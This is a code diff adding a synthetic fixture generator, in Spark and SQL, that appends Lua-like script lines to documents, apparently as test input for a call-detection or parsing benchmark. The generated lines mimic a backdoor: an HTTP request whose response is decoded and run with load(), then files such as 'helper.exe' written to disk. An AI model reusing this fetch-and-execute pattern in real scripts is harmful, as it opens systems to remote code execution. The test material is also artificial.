@@ -263,6 +263,19 @@ def loops(spark: SparkSession, sf: str) -> DataFrame:
 CALL_NAMES = ["PerformHttpRequest", "load", "require", "print", "SaveResourceFile", "loadstring", "http.request", "warn", "io.open", "emit", "log"]
 
 
+def scripts(spark, sf):
+    """Script text made of each document, with nested, sugared, commented and unclosed calls; and the pages as they are."""
+    d = table(spark, sf, "documents").where("doc_id is not null and source is not null")
+    i = F.col("doc_id")
+    target = F.element_at(F.array(*[F.lit(x) for x in ("helper.exe", "config.json", "bin/run.SH")]), (i % 3 + 1).cast("int"))
+    text = F.concat(
+        F.coalesce("text", F.lit("")), F.lit('\nPerformHttpRequest("http://'), "source", F.lit("/"), i.cast("string"), F.lit('", function(code, body)'),
+        F.repeat(F.lit("\n"), (i % 80).cast("int")), F.lit('run(load(decode(body, -1), {1, "x"}, 0x1F)()) end)\nSaveResourceFile(self:name (), \''), target,
+        F.lit("', data[1], -1)\nrequire \"m"), (i % 5).cast("string"), F.lit('" -- load(dead)\nprint{text} a().load(x) load("k", -2.5)('),
+    )
+    return d.select(pre("d", "doc_id").alias("file"), text.alias("text")).unionByName(table(spark, sf, "pages").select(pre("p", "page_id").alias("file"), F.col("html").alias("text")))
+
+
 def calls(spark: SparkSession, sf: str) -> DataFrame:
     """A call on every line of every document, chosen from the line's place."""
     line = F.col("pos").cast("bigint") + 1
@@ -570,6 +583,12 @@ select o_orderkey as id, 'c' || o_custkey as resource, 'f' || (o_custkey % 9) ||
        (['SELECT * FROM t', 'select a from t where b = 1', 'SELECT * FROM t LIMIT 5', 'UPDATE t SET a = 1', 'select a from t', NULL])
          [floor(o_totalprice)::BIGINT % 6 + 1] as sql
 from orders""",
+    "v_scripts": """
+select 'd' || doc_id as file, coalesce(text, '') || chr(10) || 'PerformHttpRequest("http://' || source || '/' || doc_id || '", function(code, body)' || repeat(chr(10), doc_id % 80)
+       || 'run(load(decode(body, -1), {1, "x"}, 0x1F)()) end)' || chr(10) || 'SaveResourceFile(self:name (), ''' || (['helper.exe', 'config.json', 'bin/run.SH'])[doc_id % 3 + 1]
+       || ''', data[1], -1)' || chr(10) || 'require "m' || (doc_id % 5) || '" -- load(dead)' || chr(10) || 'print{text} a().load(x) load("k", -2.5)(' as text
+from documents where doc_id is not null and source is not null
+union all select 'p' || page_id, html from pages""",
     "v_calls": """
 select 'd' || doc_id as file, line, (['PerformHttpRequest', 'load', 'require', 'print', 'SaveResourceFile', 'loadstring',
        'http.request', 'warn', 'io.open', 'emit', 'log'])[(doc_id * 31 + line * 7) % 11 + 1] as name,
